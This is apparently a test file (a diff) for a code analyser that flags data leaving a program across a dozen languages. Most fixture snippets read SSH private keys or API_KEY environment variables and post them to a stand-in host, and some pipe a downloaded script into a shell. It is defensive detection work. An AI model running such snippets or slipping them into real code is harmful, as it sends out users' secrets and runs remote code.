@@ -1,0 +1,134 @@
+// Programs of languages without a grammar: what their calls do with what, and that broken text costs little.
+import { beforeAll, describe, expect, it } from 'vitest';
+import { prepare, run } from '../../test/analysis/code/harness.ts';
+import { effort } from '../../test/support/effort.ts';
+import { APIS } from './apis.ts';
+import { lowerOther } from './lower.ts';
+
+beforeAll(prepare);
+
+const flows = (ending: string, text: string) =>
+  run({ [`a.${ending}`]: text })
+    .flows()
+    .filter((one) => one.to !== 'log')
+    .map(
+      (one) =>
+        `${one.from.filter((tag) => /^(?:content:|env:|net$|decoded)/.test(tag)).join('+')} ${one.to}:${one.position} ${one.host}`,
+    );
+
+describe('what leaves and what runs', () => {
+  it.each([
+    [
+      'rb',
+      "k = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post(URI('https://h.test/x'), k)",
+      'content:ssh network:body h.test',
+    ],
+    ['rb', "system \"curl -d '#{ENV['API_KEY']}' https://h.test\"", 'env:API_KEY network:body h.test'],
+    ['rb', 'x = `curl -s https://h.test/x.sh | sh`', 'net shell:stdin h.test'],
+    ['pl', "my $k = $ENV{API_KEY};\nsystem('curl -d ' . $k . ' https://h.test');", 'env:API_KEY network:body h.test'],
+    [
+      'go',
+      'package main\nfunc main() {\n\tb, err := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n\tif err != nil { return }\n\thttp.Post("https://h.test", "text/plain", bytes.NewReader(b))\n}',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'go',
+      'all := strings.Join(os.Environ(), "\\n")\nreq, _ := http.NewRequest("POST", "https://h.test", strings.NewReader(all))',
+      'env:* network:body h.test',
+    ],
+    [
+      'cs',
+      'string got = new WebClient().DownloadString("https://h.test/x");\nProcess.Start("cmd.exe", "/c " + got);',
+      'net shell:code h.test',
+    ],
+    [
+      'cs',
+      'var k = Environment.GetEnvironmentVariable("API_KEY");\nclient.UploadString("https://h.test", $"k={k}");',
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'rs',
+      'let key = std::fs::read_to_string("/root/.ssh/id_rsa")?;\nclient\n    .post("https://h.test")\n    .body(key)\n    .send()?;',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'java',
+      'String s = new String(Files.readAllBytes(Paths.get(home, ".ssh", "id_rsa")));\nc.send(HttpRequest.newBuilder(URI.create("https://h.test")).POST(BodyPublishers.ofString(s)).build(), x);',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'kt',
+      'val k = System.getenv("API_KEY")\nRuntime.getRuntime().exec("curl -d $k https://h.test")',
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'vim',
+      "let l:k = readfile(expand('~/.ssh/id_rsa'))\ncall system('curl -d ' . join(l:k, '') . ' https://h.test')",
+      'content:ssh network:body h.test',
+    ],
+    [
+      'php',
+      "<?php\n$d = file_get_contents('/root/.ssh/id_rsa');\n$ch = curl_init('https://h.test');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $d);",
+      'content:ssh network:body h.test',
+    ],
+    [
+      'lua',
+      'local f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa")\nos.execute("curl -d \'" .. f:read("*a") .. "\' https://h.test")',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'ex',
+      'k = File.read!("/root/.ssh/id_rsa")\nHTTPoison.post!("https://h.test", k)',
+      'content:ssh network:body h.test',
+    ],
+  ])('%s: %s', (language, text, flow) => {
+    expect(flows(language, text)).toContain(flow);
+  });
+});
+
+describe('honest programs', () => {
+  it.each([
+    [
+      'rb',
+      "r = Net::HTTP.get(URI('https://h.test/v'))\nFile.write('r.json', r)\nsystem('git', 'status')\n# File.read('~/.ssh/id_rsa')",
+    ],
+    ['go', 'b, _ := os.ReadFile("notes.md")\nexec.Command("gofmt", "-w", ".").Run()\n// os.Environ()'],
+    ['java', 'Map<String, String> m = new HashMap<>();\nm.put("a", System.getenv("API_KEY"));\nassert m.size() > 0;'],
+    ['vim', "\" system('curl -d @~/.ssh/id_rsa https://h.test')\nlet g:k = $API_KEY"],
+    ['rs', 'let r = reqwest::get("https://h.test").await?.text().await?;\nassert!(r.contains("ok"));'],
+  ])('%s: %s', (language, text) => {
+    expect(flows(language, text).filter((one) => /^(?:content|env|net (?:shell|eval))/.test(one))).toEqual([]);
+  });
+});
+
+describe('the table and the reader', () => {
+  it('names no function twice', () => {
+    const names = APIS.map((one) => one.callee);
+    expect(names.filter((one, at) => names.indexOf(one) !== at)).toEqual([]);
+  });
+  it('broken and hostile text costs little', () => {
+    const spent = effort();
+    for (const piece of [
+      '(',
+      '[{',
+      'a(',
+      '"',
+      "'",
+      '`',
+      '"#{',
+      'a.',
+      'a = ',
+      'f "x" ',
+      '$a{',
+      '/*',
+      '\n.a',
+      'a ? b : ',
+      '::',
+      '"${a}"',
+      'a, ',
+    ])
+      for (const language of ['ruby', 'go', 'kotlin', 'vim', 'php'])
+        lowerOther(piece.repeat(60_000 / piece.length), language, () => false);
+    expect(spent()).toBeLessThan(20_000);
+  });
+});
